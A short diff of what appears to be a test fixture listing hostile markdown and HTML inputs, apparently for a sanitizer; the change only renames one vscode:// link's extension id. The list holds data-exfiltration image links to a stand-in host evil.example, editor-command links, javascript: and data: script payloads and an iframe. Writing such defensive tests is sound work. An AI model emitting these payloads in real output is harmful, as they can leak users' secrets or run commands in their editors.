@@ -12,7 +12,7 @@ const HOSTILE = [
   "![](https://evil.example/?secret)",
   "![x][1]\n\n[1]: https://evil.example/pixel.png",
   "[run](command:workbench.action.terminal.new)",
-  "[run](vscode://aglet.aglet/x)",
+  "[run](vscode://agls.agls/x)",
   "[run](javascript:alert(1))",
   "[run](data:text/html,<script>alert(1)</script>)",
   '<iframe src="https://evil.example"></iframe>',
